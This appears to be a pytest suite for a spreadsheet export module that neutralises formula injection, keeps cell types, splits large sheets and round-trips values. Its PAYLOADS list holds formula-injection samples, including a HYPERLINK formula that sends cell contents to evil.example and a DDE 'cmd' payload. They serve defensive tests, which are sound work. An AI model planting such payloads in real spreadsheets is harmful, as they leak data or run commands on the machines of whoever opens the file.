"""The one sanitiser and the streaming writer: nothing from user data becomes a formula, types survive, big sheets
split, and what is exported reads back as it was."""

import datetime as dt
import io
import tempfile
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core import spreadsheets
from core.spreadsheets import SheetColumn, StreamingWorkbook, safe_cell, unquote_cell

PAYLOADS = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "  =1+1", " \t @x", "\n-1", "'=1+1", "''+x",
]  # fmt: skip


def write_and_read(rows, columns=None, title="Data"):
    wb = StreamingWorkbook()
    width = max((len(r) for r in rows), default=1)
    wb.add_sheet(title, columns or [SheetColumn(f"h{i}") for i in range(width)], iter(rows))
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return openpyxl.load_workbook(buf)


def test_openpyxl_parses_with_defusedxml():
    assert openpyxl.xml.DEFUSEDXML is True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_quotes_every_formula_trigger(payload):
    out = safe_cell(payload)
    assert out.startswith("'")
    assert unquote_cell(out) == payload.replace("\r", "\n")


@pytest.mark.parametrize(
    "text", ["plain", "Đã thẩm định", "a=b", "x-1", "email@example.org", "'quoted'", "", " spaced"]
)
def test_it_leaves_harmless_text_alone(text):
    assert safe_cell(text) == text
    assert unquote_cell(text) == text


def test_non_strings_stay_typed(settings):
    settings.TIME_ZONE = "Asia/Ho_Chi_Minh"
    aware = dt.datetime(2026, 1, 1, 0, 30, tzinfo=dt.UTC)
    assert safe_cell(aware) == dt.datetime(2026, 1, 1, 7, 30)
    assert safe_cell(aware).tzinfo is None
    assert safe_cell(dt.date(2026, 2, 3)) == dt.date(2026, 2, 3)
    assert safe_cell(True) is True and safe_cell(7) == 7 and safe_cell(None) is None
    assert safe_cell(-5) == -5  # a real negative number is not a formula


def test_it_drops_characters_xml_cannot_hold():
    assert safe_cell("a\x00b\x07c") == "abc"


def test_it_cuts_text_at_excels_cell_limit():
    assert len(safe_cell("x" * 40_000)) == spreadsheets.MAX_CELL_CHARS
    assert safe_cell("=" + "x" * 40_000).startswith("'=")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_stored_as_a_formula(payload):
    ws = write_and_read([[payload, 1]]).active
    cell = ws.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert unquote_cell(cell.value) == payload.replace("\r", "\n")


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=8))
def test_random_strings_never_become_formulas_and_round_trip(values):
    ws = write_and_read([values]).active
    for idx, value in enumerate(values, 1):
        cell = ws.cell(row=2, column=idx)
        assert cell.data_type != "f"
        expected = spreadsheets.XML_ILLEGAL_RE.sub("", value).replace("\r\n", "\n").replace("\r", "\n")
        got = unquote_cell(cell.value) if cell.value is not None else ""
        assert got == expected


def test_sheet_has_styled_frozen_header_widths_and_typed_cells():
    rows = [["SYS-1", "Hệ thống một", 3, True, dt.date(2026, 12, 14), dt.datetime(2026, 5, 6, 7, 8)]]
    columns = [SheetColumn("Mã", 12), SheetColumn("Tên", 40), SheetColumn("Cấp", 8), SheetColumn("24/7", 8),
               SheetColumn("Hạn", 14), SheetColumn("Lúc", 20)]  # fmt: skip
    ws = write_and_read(rows, columns).active
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["Mã", "Tên", "Cấp", "24/7", "Hạn", "Lúc"]
    assert ws["A1"].font.b is True and ws["A1"].fill.fill_type == "solid"
    assert ws.column_dimensions["B"].width == 40
    a, b, c, d, e, f = ws[2]
    assert (a.value, b.value, c.value, d.value) == ("SYS-1", "Hệ thống một", 3, True)
    assert c.data_type == "n" and d.data_type == "b"
    assert e.is_date and e.value.date() == dt.date(2026, 12, 14)
    assert f.is_date and f.value == dt.datetime(2026, 5, 6, 7, 8)


def test_it_splits_before_the_row_limit_repeating_the_header(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS_PER_SHEET", 4)  # a header and three data rows per part
    rows = [[f"r{i}", i] for i in range(8)]
    wb = write_and_read(rows, [SheetColumn("name"), SheetColumn("n")], title="Systems")
    assert wb.sheetnames == ["Systems", "Systems (2)", "Systems (3)"]
    seen = []
    for ws in wb.worksheets:
        assert ws.max_row <= 4
        assert [c.value for c in ws[1]] == ["name", "n"]
        assert ws.freeze_panes == "A2"
        seen += [r[1] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert seen == list(range(8))


def test_it_reports_progress_in_chunks_not_per_row():
    calls = []
    wb = StreamingWorkbook()
    written = wb.add_sheet(
        "S", [SheetColumn("n")], ([i] for i in range(2500)), on_progress=calls.append, progress_every=1000
    )
    wb.save(io.BytesIO())
    assert written == 2500
    assert calls == [1000, 1000, 500]


def test_sheet_titles_are_made_legal():
    assert spreadsheets.sheet_title("a/b:c*d?[e]") == "a_b_c_d__e_"
    assert len(spreadsheets.sheet_title("x" * 40, 12)) == 31
    assert spreadsheets.sheet_title("x" * 40, 12).endswith(" (12)")


def test_an_abandoned_workbook_leaves_no_temporary_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows():
        yield ["one"]
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError), StreamingWorkbook() as wb:
        wb.add_sheet("S", [SheetColumn("n")], rows())
    assert wb._file.closed
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ValueError):
        wb.save(io.BytesIO())


def test_a_row_longer_than_its_header_and_odd_values_are_kept():
    wb = write_and_read([["a", Decimal("1.5"), float("nan"), dt.time(7, 30), " padded ", "<&>"]], [SheetColumn("h")])
    assert [c.value for c in wb.active[2]] == ["a", 1.5, "nan", dt.time(7, 30), " padded ", "<&>"]


def test_repeated_titles_and_key_value_sheets():
    wb = StreamingWorkbook()
    wb.add_sheet("Data", [SheetColumn("n")], [[1]])
    wb.add_sheet("data", [SheetColumn("n")], [[2]])
    wb.add_key_value_sheet("Tóm tắt & ghi chú", [("Nhãn", "=1+1"), ("Số", 3)])
    buf = io.BytesIO()
    wb.save(buf)
    book = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))
    assert book.sheetnames == ["Data", "data1", "Tóm tắt & ghi chú"]
    summary = book["Tóm tắt & ghi chú"]
    assert summary["A1"].font.b is True and summary["B1"].value == "'=1+1" and summary["B2"].value == 3


def saved(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("value", "kept"),
    [("a\x00b\x08c\x0bd\x1fe", "abcde"), ("a\ufffeb\uffffc", "abc"), ("a\ud800b\udfffc", "abc"),
     ("tab\tand\nline", "tab\tand\nline"), ("\x7f\x85 kept", "\x7f\x85 kept"), ("\x00=1+1", "'=1+1")],
)  # fmt: skip
def test_characters_xml_cannot_hold_are_dropped_and_the_file_opens(value, kept):
    # U+FFFE/U+FFFF made a file no reader opens; a lone surrogate made the export itself fail.
    ws = write_and_read([[value, value], [1, value]]).active
    assert ws["A2"].value == ws["B2"].value == ws["B3"].value == kept


def test_markup_characters_are_escaped_in_cells_headers_and_titles():
    text = "a & b < c > d \"e\" 'f' ]]> &amp; <t>"
    wb = StreamingWorkbook()
    wb.add_sheet('R&D <"x">', [SheetColumn(text)], [[text], [text]])
    wb.add_key_value_sheet("K", [(text, text)])
    book = openpyxl.load_workbook(io.BytesIO(saved(wb)))
    data, kv = book.worksheets
    assert data.title == 'R&D <"x">'
    assert [data["A1"].value, data["A2"].value, data["A3"].value, kv["A1"].value, kv["B1"].value] == [text] * 5


def test_every_type_reads_back_as_written(settings):
    settings.TIME_ZONE = "Asia/Ho_Chi_Minh"
    long_text = "Đ" * 40_000
    rows = [
        [0, -7, 2**53, 3.25, -0.5, 1e-300, Decimal("12.50"), True, False],
        [dt.date(1900, 3, 1), dt.date(2026, 12, 31), dt.datetime(2026, 5, 6, 7, 8, 9), dt.time(23, 59, 59), None, "x"],
        [dt.datetime(2026, 1, 1, 0, 30, tzinfo=dt.UTC), None, None, "", "  both  ", long_text, "=" + long_text],
        [1, True, 1.0, "1", "True", "1.0"],  # equal as Python values, never one cell template for another
    ]
    ws = write_and_read(rows, [SheetColumn("h")]).active
    got = [list(r) for r in ws.iter_rows(min_row=2, values_only=True)]  # padded to the widest row (9)
    assert got[0] == [0, -7, 2**53, 3.25, -0.5, 1e-300, 12.5, True, False]
    assert got[1][:4] == [dt.datetime(1900, 3, 1), dt.datetime(2026, 12, 31), dt.datetime(2026, 5, 6, 7, 8, 9),
                          dt.time(23, 59, 59)]  # fmt: skip
    assert got[1][4:] == [None, "x", None, None, None]
    assert got[2][:5] == [dt.datetime(2026, 1, 1, 7, 30), None, None, None, "  both  "]  # "" is an empty cell
    assert got[2][5] == "Đ" * spreadsheets.MAX_CELL_CHARS
    assert got[2][6] == "'=" + "Đ" * (spreadsheets.MAX_CELL_CHARS - 2)
    assert [type(v) for v in got[3][:6]] == [int, bool, float, str, str, str]
    assert got[3][:6] == [1, True, 1.0, "1", "True", "1.0"]


def test_strings_are_written_inline_with_no_shared_string_table():
    wb = StreamingWorkbook()
    wb.add_sheet("S", [SheetColumn("h")], [["met"], ["met"], ["=1+1"], ["=1+1"]])
    with zipfile.ZipFile(io.BytesIO(saved(wb))) as zf:
        assert "xl/sharedStrings.xml" not in zf.namelist()
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert sheet.count('t="inlineStr"') == 5  # the header and four cells
    assert sheet.count("<t>met</t>") == 2 and sheet.count("<t>'=1+1</t>") == 2


def test_the_cell_template_memo_stays_bounded_and_exact(monkeypatch):
    monkeypatch.setattr(spreadsheets, "_MEMO_ENTRIES", 8)
    monkeypatch.setattr(spreadsheets, "_MEMO_TEXT_CHARS", 6)
    seen = []
    real = spreadsheets._Tails.__call__

    def spy(self, value):
        seen.append(len(self))
        return real(self, value)

    monkeypatch.setattr(spreadsheets._Tails, "__call__", spy)
    values = [f"v{i % 20}" for i in range(200)] + ["=HYPERLINK(1)", "-1+1", "a long value, not memoised"] * 3
    ws = write_and_read([[v] for v in values], [SheetColumn("h")]).active
    assert max(seen) <= 8
    got = [unquote_cell(r[0]) for r in ws.iter_rows(min_row=2, values_only=True)]
    assert got == values
    assert all(v.startswith("'") for v in [ws.cell(row=n, column=1).value for n in range(202, 210, 3)])
